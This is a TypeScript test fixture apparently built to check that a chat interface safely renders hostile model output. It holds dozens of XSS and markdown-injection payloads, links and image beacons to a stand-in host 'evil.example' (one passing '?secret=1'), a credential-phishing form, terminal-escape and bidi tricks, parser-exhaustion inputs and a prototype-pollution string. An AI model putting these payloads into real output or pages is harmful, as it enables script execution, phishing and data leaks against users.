// What a model, a provider or a client may say to take over the window that shows it. All of it sets `window.taken` where it runs.

export interface Hostile {
  readonly name: string;
  readonly text: string;
  /** A word that is to be seen where the answer is shown. */
  readonly seen: string;
}

const evil = 'evil.example';
const run = 'window.taken=1';

const hostile = (name: string, text: string): Hostile => {
  const seen = `seen-${name.replace(/\W+/g, '-')}`;
  return { name, seen, text: `${text}\n\n${seen}\n` };
};

/** In the answers of models. */
export const outputs: readonly Hostile[] = [
  hostile('a script', `<script>${run}</script><script src="https://${evil}/x.js"></script>`),
  hostile('a script in markdown', `text **bold <script>${run}</script>**`),
  hostile(
    'an event handler',
    `<img src=x onerror="${run}"><b onmouseover="${run}">here</b><details open ontoggle="${run}">`,
  ),
  hostile('an SVG', `<svg onload="${run}"><animate onbegin="${run}" attributeName=x /><script>${run}</script></svg>`),
  hostile(
    'a frame',
    `<iframe src="javascript:parent.${run}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  ),
  hostile('an object', `<object data="https://${evil}/x"></object><embed src="https://${evil}/x">`),
  hostile(
    'a form',
    `<form action="https://${evil}/steal"><input name=q autofocus onfocus="${run}"><button>Sign in</button></form>`,
  ),
  hostile('a refresh', `<meta http-equiv="refresh" content="0;url=https://${evil}/">`),
  hostile('a base', `<base href="https://${evil}/"><link rel="stylesheet" href="/x.css">`),
  hostile(
    'a style',
    '<style>.sidebar{display:none}body{transform:rotate(90deg)}</style><div style="position:fixed;inset:0">over</div>',
  ),
  hostile('a title', '<title>Taken</title></title></head><body><h1>Taken</h1>'),
  hostile(
    'a link that runs',
    `[one](javascript:${run}) [two](JaVaScRiPt:${run}) <a href="javascript:${run}">three</a>`,
  ),
  hostile(
    'a link with entities',
    `[one](&#106;avascript:${run}) [two](java&#x0A;script:${run}) [three](&#x6A;avascript&colon;${run})`,
  ),
  hostile(
    'a link with white space',
    `[one]( javascript:${run}) [two](java\tscript:${run}) [three](<java\nscript:${run}>)`,
  ),
  hostile('a link to data', `[one](data:text/html,<script>${run}</script>) [two](data:text/html;base64,PHNjcmlwdD4=)`),
  hostile('a link to vbscript', `[one](vbscript:${run}) [two](file:///etc/passwd) [three](blob:https://${evil}/1)`),
  hostile(
    'a link that lies',
    `[https://bank.example/sign-in](https://${evil}/) and [your settings](http://127.0.0.1.${evil}/settings)`,
  ),
  hostile(
    'a link to itself',
    '[sign out](/api/session) [stop](/settings) [up](../../x) <https://user:secret@evil.example/>',
  ),
  hostile('a picture in markdown', `![alt](https://${evil}/pixel.png?secret=1) ![](http://${evil}/2.png "title")`),
  hostile('a picture by reference', `![alt][ref] ![ref]\n\n[ref]: https://${evil}/ref.png`),
  hostile(
    'a picture in HTML',
    `<img src="https://${evil}/p.png"><picture><source srcset="https://${evil}/s.png"></picture><video poster="https://${evil}/v">`,
  ),
  hostile('a picture that is a link', `[![alt](https://${evil}/p.png)](javascript:${run})`),
  hostile('characters that turn text around', 'exe.\u202egpj.tcudorp \u2066hidden\u2069 \u200e\u200f\u061c'),
  hostile('control characters', 'bell\u0007 back\u0008 null\u0000 escape\u001b del\u007f next\u0085'),
  hostile(
    'a terminal that is steered',
    '\u001b[2J\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  ),
  hostile(
    'lists within lists',
    `${Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}- deep`).join('\n')}`,
  ),
  hostile('quotes within quotes', `${'> '.repeat(2_000)}deep`),
  hostile('brackets without end', `${'['.repeat(3_000)}x${']('.repeat(1_000)}`),
  hostile('a line without end', 'longest'.repeat(20_000)),
  hostile(
    'a table of links',
    `| a | b |\n|---|---|\n${`| [x](https://${evil}/1) | [y](javascript:${run}) |\n`.repeat(150)}`,
  ),
  hostile(
    'a template',
    '{{constructor.constructor("window.taken=1")()}} ${window.taken=1} <%= window.taken=1 %> #{window.taken=1}',
  ),
  hostile(
    'code that ends its fence',
    '```html\n</code></pre><script>window.taken=1</script>\n```\n`</code><img src=x onerror=window.taken=1>`',
  ),
  hostile('a footnote', `Text[^1]\n\n[^1]: <img src=x onerror="${run}"> [again](javascript:${run})`),
  hostile('a comment', `<!-- --><script>${run}</script> <![CDATA[<script>${run}</script>]]> <?php ${run} ?>`),
];

/** In names and messages, where a line is expected. */
export const lines: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `"><script>${run}</script>`,
  `javascript:${run}`,
  '__proto__',
];

/** Arguments of a tool that are to change what every object has. */
export const pollution =
  '{"__proto__":{"taken":1},"constructor":{"prototype":{"taken":1}},"x":"<img src=x onerror=window.taken=1>"}';
